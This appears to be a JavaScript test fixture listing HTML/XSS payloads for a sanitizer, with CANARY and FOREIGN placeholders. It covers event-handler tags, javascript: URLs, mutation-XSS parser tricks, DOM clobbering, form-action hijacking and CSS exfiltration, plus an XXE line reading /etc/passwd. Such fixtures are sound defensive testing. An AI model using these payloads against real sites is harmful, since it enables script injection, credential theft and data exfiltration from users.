// Payloads in HTML. See xss-payloads.mjs for the notation.

export default {
  'HTML: handlers': String.raw`
<img src=x onerror=CANARY>
<IMG SRC=x ONERROR=CANARY>
<img src=x onerror = CANARY>
<img/src=x/onerror=CANARY>
<img⟦c⟧src=x⟦c⟧onerror=CANARY>
<img src=x⟦9⟧onerror⟦9⟧=⟦9⟧CANARY>
<img src="x" onerror="CANARY"
<img src=x onerror='CANARY'//
<img srcset=x onerror=CANARY>
<img """><script>CANARY</script>">
<<img src=x onerror=CANARY>>
<x><img src=x onerror=CANARY></x>
<picture><source srcset=x><img onerror=CANARY src=x></picture>
<image src=x onerror=CANARY>
<audio src=x onerror=CANARY>
<video src=x onerror=CANARY></video>
<video><source src=x onerror=CANARY></video>
<video poster=//FOREIGN/p.png></video>
<body onload=CANARY>
<body onpageshow=CANARY onhashchange=CANARY>
<frameset onload=CANARY>
<iframe onload=CANARY></iframe>
<input autofocus onfocus=CANARY>
<select autofocus onfocus=CANARY><option>a</select>
<textarea autofocus onfocus=CANARY></textarea>
<keygen autofocus onfocus=CANARY>
<b tabindex=1 onfocus=CANARY autofocus>a</b>
<b contenteditable onfocus=CANARY oninput=CANARY>a</b>
<b onclick=CANARY>a</b>
<b ondblclick=CANARY>a</b>
<b onmouseover=CANARY>a</b>
<b onpointerenter=CANARY>a</b>
<b onpointerover=CANARY>a</b>
<b onmousedown=CANARY>a</b>
<b ontouchstart=CANARY>a</b>
<b onwheel=CANARY>a</b>
<b oncontextmenu=CANARY>a</b>
<b oncopy=CANARY onpaste=CANARY>a</b>
<b draggable=true ondragstart=CANARY>a</b>
<b onkeydown=CANARY>a</b>
<b onanimationstart=CANARY style="animation:ardoise 1s">a</b><style>@keyframes ardoise{}</style>
<b ontransitionend=CANARY style="transition:color 1ms;color:red">a</b>
<b onscrollend=CANARY style="overflow:auto">a</b>
<details open ontoggle=CANARY><summary>a</summary></details>
<details ontoggle=CANARY><summary>a</summary></details>
<dialog open onclose=CANARY><form method=dialog><button>a</button></form></dialog>
<dialog open oncancel=CANARY onclick=CANARY>a</dialog>
<div popover id=pNUMBER onbeforetoggle=CANARY>a</div><button popovertarget=pNUMBER>b</button>
<button popovertarget=comments onclick=CANARY>b</button>
<button commandfor=ardoise-form command=show-modal onclick=CANARY>b</button>
<marquee onstart=CANARY>a</marquee>
<object onerror=CANARY data=x:></object>
<link rel=stylesheet href=x: onerror=CANARY>
<style onload=CANARY></style>
<script onerror=CANARY src=x:></script>
<form oninput=CANARY><input></form>
<input type=image src=x onerror=CANARY>
<b oncontentvisibilityautostatechange=CANARY style=display:block;content-visibility:auto>a</b>`,

  'HTML: elements': String.raw`
<script>CANARY</script>
<ScRiPt>CANARY</sCrIpT>
<script >CANARY</script >
<script/x>CANARY</script/x>
<script⏎>CANARY</script⏎>
<script>CANARY
<script src=//FOREIGN/a.js></script>
<script type=module>CANARY</script>
<script type=importmap>{"imports":{"./ardoise-form.js":"//FOREIGN"}}</script>
<scr<script>ipt>CANARY</scr</script>ipt>
<script><!--<script>CANARY</script>-->
<a href=javascript:CANARY>a</a>
<a href=" javascript:CANARY">a</a>
<a href="⟦1⟧javascript:CANARY">a</a>
<a href=java⟦9⟧script:CANARY>a</a>
<a href="java⏎script:CANARY">a</a>
<a href="javascript:CANARY" target=_blank rel=opener>a</a>
<a href=https://example.org ping=//FOREIGN>a</a>
<a href=# onclick=CANARY>a</a>
<area href=javascript:CANARY shape=default>
<map name=m><area href=javascript:CANARY coords=0,0,9,9></map><img usemap=#m src=x>
<iframe src=javascript:CANARY></iframe>
<iframe srcdoc="<script>parent.CANARY</script>"></iframe>
<iframe srcdoc=&lt;img&#32;src=x&#32;onerror=parent.CANARY&gt;></iframe>
<iframe src=data:text/html,x></iframe>
<iframe src=//FOREIGN></iframe>
<frame src=javascript:CANARY>
<portal src=//FOREIGN></portal>
<fencedframe src=//FOREIGN></fencedframe>
<object data=javascript:CANARY></object>
<object data="data:text/html,<script>CANARY</script>"></object>
<object data=//FOREIGN type=text/html></object>
<embed src=javascript:CANARY>
<embed src=//FOREIGN>
<applet code=x archive=//FOREIGN></applet>
<form action=javascript:CANARY><button>a</button></form>
<form><button formaction=javascript:CANARY>a</button></form>
<form><input type=submit formaction=javascript:CANARY value=a></form>
<form><input type=image formaction=javascript:CANARY src=x></form>
<button form=ardoise-form formaction=//FOREIGN>a</button>
<input form=ardoise-form name=article value=/elsewhere/>
<form id=ardoise-form action=//FOREIGN><input name=author></form>
<base href=//FOREIGN/><img src=a.png>
<base target="CANARY">
<meta http-equiv=refresh content="0;url=//FOREIGN">
<meta http-equiv=refresh content="0;url=javascript:CANARY">
<meta http-equiv=Content-Security-Policy content="default-src *">
<meta http-equiv=set-cookie content="a=b">
<link rel=stylesheet href=//FOREIGN/a.css>
<link rel=prefetch href=//FOREIGN/a>
<link rel=preload as=image href=//FOREIGN/b>
<link rel=modulepreload href=//FOREIGN/c.js>
<link rel=dns-prefetch href=//FOREIGN>
<isindex type=image src=1 onerror=CANARY>
<bgsound src=//FOREIGN>
<body background=//FOREIGN/bg.png>
<table background=//FOREIGN/t.png><td background=//FOREIGN/d.png>a</table>
<track src=//FOREIGN default>
<math><maction actiontype=statusline href=javascript:CANARY>a</maction></math>
<xmp><img src=x onerror=CANARY></xmp>
<plaintext><img src=x onerror=CANARY>
<listing>&lt;img src=x onerror=CANARY&gt;</listing>
<noembed><img src=x onerror=CANARY></noembed>
<noframes><img src=x onerror=CANARY></noframes>
<![CDATA[<img src=x onerror=CANARY>]]>
<?xml-stylesheet href="javascript:CANARY"?>
<?php CANARY ?><img src=x onerror=CANARY>
<!doctype html><img src=x onerror=CANARY>
<!ENTITY x SYSTEM "file:///etc/passwd">&x;
<!--[if IE]><script>CANARY</script><![endif]-->
<!-- --!><img src=x onerror=CANARY>
<!--><img src=x onerror=CANARY>-->
<!---><img src=x onerror=CANARY>-->
</p><img src=x onerror=CANARY><p>
</div></article></li></ol></section><img src=x onerror=CANARY>
</body></html><script>CANARY</script>
</template><img src=x onerror=CANARY>
<template><img src=x onerror=CANARY></template>
<div><template shadowrootmode=open><img src=x onerror=CANARY></template></div>
<slot name=x onslotchange=CANARY>a</slot>
<x-y is=z onclick=CANARY>a</x-y>
<input type=hidden oncontentvisibilityautostatechange=CANARY style=content-visibility:auto>
<h1>Big</h1><table><tr><td>a</table><hr><center>b</center><font size=7>c</font>
<ul><li><ol><li></ol></ul></li></ol>`,

  'Mutations and foreign elements': String.raw`
<svg onload=CANARY>
<svg/onload=CANARY//
<svg><script>CANARY</script></svg>
<svg><script>&#112;wned(NUMBER)</script></svg>
<svg><script href=data:,CANARY /></svg>
<svg><a href=javascript:CANARY><text y=20>a</text></a></svg>
<svg><a xlink:href=javascript:CANARY><text y=20>a</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=CANARY /></svg>#x" /></svg>
<svg><image href=//FOREIGN/i.png /></svg>
<svg><image href=x onerror=CANARY /></svg>
<svg><feImage href=//FOREIGN/f.png /></svg>
<svg><animate onbegin=CANARY attributeName=x dur=1s>
<svg><set onbegin=CANARY attributename=x to=y>
<svg><a><animate attributeName=href values=javascript:CANARY /><text y=20>a</text></a></svg>
<svg><foreignObject><img src=x onerror=CANARY></foreignObject></svg>
<svg><style><img src=x onerror=CANARY></style></svg>
<svg><style>&lt;img src=x onerror=CANARY&gt;</style></svg>
<svg></p><style><a id="</style><img src=x onerror=CANARY>">
<svg><title><img src=x onerror=CANARY></title></svg>
<svg><desc><iframe onload=CANARY></iframe></desc></svg>
<svg><p><style><g title="</style><img src=x onerror=CANARY>">
<svg><![CDATA[><img src=x onerror=CANARY>]]></svg>
<svg><discard onbegin=CANARY /></svg>
<math href=javascript:CANARY>a</math>
<math><mtext><table><mglyph><style><img src=x onerror=CANARY>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CANARY&gt;">
<math><annotation-xml encoding=text/html><img src=x onerror=CANARY></annotation-xml></math>
<math><mi><mglyph><svg><mtext><style><path id="</style><img src=x onerror=CANARY>">
<math><xss><style><img src=x onerror=CANARY></style></xss></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CANARY>
<noscript><p title="</noscript><img src=x onerror=CANARY>">
<noscript><style></noscript><img src=x onerror=CANARY>
<style><img src="</style><img src=x onerror=CANARY>">
<style></style⏎><img src=x onerror=CANARY></style>
<title><img src="</title><img src=x onerror=CANARY>">
<textarea><img src="</textarea><img src=x onerror=CANARY>">
<iframe><img src="</iframe><img src=x onerror=CANARY>">
<xmp><p title="</xmp><img src=x onerror=CANARY>">
<noembed><p title="</noembed><img src=x onerror=CANARY>">
<select><template><style></select><img src=x onerror=CANARY></style>
<select><iframe></select><img src=x onerror=CANARY></iframe>
<table><style><a title="</style><img src=x onerror=CANARY>">
<a><table><a href=javascript:CANARY>a</a></table></a>
<option><style></option></select><img src=x onerror=CANARY></style>
<p><a title="<!--"><img src=x onerror=CANARY>--></a>
<!-- <img title="--><img src=x onerror=CANARY>">
<b title="<b title='"onmouseover=CANARY x='">a</b>
<b <script>CANARY</script>0
<br/><//style=x:expression\28CANARY\29>
<a href="https://example.org/⟦60⟧onmouseover=CANARY">a</a>
<img src=⟦60⟧x⟦60⟧onerror=CANARY>
<img src="x⟦60⟧ ⟦60⟧onerror=CANARY x="
<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=CANARY>">`,

  'Clobbering': String.raw`
<img name=getElementById>
<form id=ardoise-form><input name=elements></form>
<form name=body><input name=ownerDocument></form>
<a id=pwned href=//FOREIGN>a</a><a id=pwned name=length>b</a>
<img id=currentScript name=currentScript>
<b id=ardoise-thanks>a</b>
<b id=ardoise-title data-ardoise=count data-none="<img src=x onerror=CANARY>">a</b>
<b data-ardoise=template><template><img src=x onerror=CANARY></template></b>
<ol data-ardoise=replies>a</ol>
<div data-ardoise=text>b</div>
<section data-ardoise-article=/elsewhere/ data-ardoise-title="a">c</section>
<section data-ardoise-recent=9><ul data-ardoise=list></ul></section>
<b class="ardoise-badge ardoise-owner" lang=x dir=rtl title=Owner slot=x part=y>Owner</b>
<input type=checkbox data-ardoise=reply name=reply_to value=x form=ardoise-form checked>
<li class=ardoise-comment id=comment-x><article>Somebody else said so</article></li>
<b accesskey=x tabindex=-1 contenteditable inert hidden itemscope itemid=//FOREIGN>a</b>`,

  'Styles': String.raw`
<style>*{background:url(//FOREIGN/s)}</style>
<style>@import "//FOREIGN/i.css";</style>
<b style="background:url(//FOREIGN/b)">a</b>
<b style="position:fixed;inset:0;z-index:9999;background:red">a</b>
<b style="width:expression(CANARY)">a</b>
<b style="behavior:url(//FOREIGN)">a</b>
<b style="-moz-binding:url(//FOREIGN#x)">a</b>
<style>input[value^=a]{background:url(//FOREIGN/k)}</style>
</style><img src=x onerror=CANARY>
<b style="color:red;}</style><img src=x onerror=CANARY>">a</b>`,
};
